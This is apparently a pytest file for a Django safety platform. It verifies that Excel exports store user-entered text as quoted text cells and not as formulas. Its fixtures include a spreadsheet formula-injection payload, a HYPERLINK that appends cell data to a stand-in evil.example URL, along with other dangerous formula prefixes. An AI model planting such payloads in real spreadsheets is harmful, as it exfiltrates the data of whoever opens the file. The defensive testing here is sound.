"""User text in an Excel export is always a text cell, never a formula (issue 15, item 2).

A text starting with ``=``, ``+``, ``-``, ``@``, tab or CR — typed by an enterprise or an anonymous
reporter — is written as an explicit string cell with Excel's quote prefix, so neither Excel nor
LibreOffice evaluates it (on opening or after an edit). Real numbers and dates stay numeric.
"""

from __future__ import annotations

import csv
import datetime as dt
import shutil
import subprocess
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from hazards.exports import HAZARD_COLUMNS
from safety_platform.excel import build_workbook, xlsx_bytes
from tests.conftest import require_service
from tests.hazards.factories import HazardFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"点击查看")'
DANGEROUS = [HYPERLINK, "=1+1", "+1+2", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=A1", "-"]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def _assert_text_cell(cell, typed: str) -> None:
    assert cell.data_type == "s", (typed, cell.data_type)
    assert cell.value == typed
    assert cell.quotePrefix, typed  # Excel/LibreOffice keep it text even after the cell is edited


def test_every_dangerous_prefix_is_a_text_cell_and_numbers_and_dates_stay_numbers():
    when = dt.datetime(2025, 3, 4, 8, 30)
    row = [*DANGEROUS, 7, -3, Decimal("12.50"), 2.5, dt.date(2025, 3, 4), when, True, "普通文字", "#N/A", None]
    content = xlsx_bytes(build_workbook("测试", [f"列{i}" for i in range(len(row))], [row]))
    assert "<f>" not in _sheet_xml(content)  # no formula anywhere in the file
    cells = list(load_workbook(BytesIO(content)).active.iter_rows(min_row=2))[0]
    for cell, typed in zip(cells, DANGEROUS, strict=False):
        _assert_text_cell(cell, typed)
    numbers = cells[len(DANGEROUS):]
    assert [c.value for c in numbers[:4]] == [7, -3, 12.5, 2.5] and all(c.data_type == "n" for c in numbers[:4])
    assert numbers[4].is_date and numbers[4].value == dt.datetime(2025, 3, 4)
    assert numbers[5].is_date and numbers[5].value == when
    assert numbers[6].value == "是" and numbers[7].value == "普通文字" and not numbers[7].quotePrefix
    assert numbers[8].data_type == "s" and numbers[8].value == "#N/A"  # text, not an Excel error value
    assert numbers[9].value is None


def test_append_row_protects_a_normal_workbook_as_well():
    from safety_platform.excel import append_row

    wb = Workbook()
    append_row(wb.active, [*DANGEROUS, 5, dt.date(2025, 1, 2)])
    content = xlsx_bytes(wb)
    assert "<f>" not in _sheet_xml(content)
    cells = list(load_workbook(BytesIO(content)).active.iter_rows())[0]
    for cell, typed in zip(cells, DANGEROUS, strict=False):
        _assert_text_cell(cell, typed)
    assert cells[len(DANGEROUS)].value == 5 and cells[len(DANGEROUS) + 1].is_date


@pytest.fixture
def hostile(world):
    world.ent_a.address = "+1+2"
    world.ent_a.save(update_fields=["address"])
    return HazardFactory(enterprise=world.ent_a, description=HYPERLINK, location="@SUM(1,1)",
                         responsible="-2+3", rectification_note="=1+1",
                         deadline=timezone.localdate() + dt.timedelta(days=5))


def _column(title: str) -> int:
    return HAZARD_COLUMNS.index(title)


def test_hazard_ledger_export_keeps_typed_text_as_text(world, hostile):
    response = world.client("office").get(reverse("hazards:ledger"), {"export": "xlsx"})
    assert response.status_code == 200
    assert "<f>" not in _sheet_xml(response.content)
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(min_row=2))
    (row,) = [r for r in rows if r[0].value == hostile.number]
    _assert_text_cell(row[_column("隐患描述")], HYPERLINK)
    _assert_text_cell(row[_column("部位")], "@SUM(1,1)")
    _assert_text_cell(row[_column("整改责任人")], "-2+3")
    _assert_text_cell(row[_column("整改情况")], "=1+1")
    deadline = row[_column("整改期限")]
    assert deadline.is_date and deadline.value.date() == hostile.deadline


def test_enterprise_ledger_export_keeps_an_address_as_text(world, hostile):
    from enterprises.exports import EXPORT_COLUMNS

    response = world.client("office").get(reverse("enterprises:list"), {"export": "xlsx"})
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(min_row=2))
    (row,) = [r for r in rows if r[1].value == world.ent_a.name]
    _assert_text_cell(row[EXPORT_COLUMNS.index("地址")], "+1+2")
    assert row[EXPORT_COLUMNS.index("从业人数")].data_type == "n"


def test_libreoffice_shows_the_typed_text_not_a_computed_value(world, hostile, tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    require_service(soffice is not None, "LibreOffice (soffice)")
    xlsx = tmp_path / "ledger.xlsx"
    xlsx.write_bytes(world.client("office").get(reverse("hazards:ledger"), {"export": "xlsx"}).content)
    # 44 = comma, 34 = double quote, 76 = UTF-8; a private profile so parallel runs don't share one.
    done = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path), str(xlsx)],
        capture_output=True, text=True, timeout=180,
    )
    converted = tmp_path / "ledger.csv"
    assert done.returncode == 0 and converted.exists(), done.stdout + done.stderr
    rows = list(csv.reader(converted.read_text(encoding="utf-8").splitlines()))
    (row,) = [r for r in rows[1:] if r[0] == hostile.number]
    assert row[_column("隐患描述")] == HYPERLINK
    assert row[_column("部位")] == "@SUM(1,1)"
    assert row[_column("整改责任人")] == "-2+3"
    assert row[_column("整改情况")] == "=1+1"
    assert not any(cell == "点击查看" for r in rows for cell in r)  # the formula's computed value
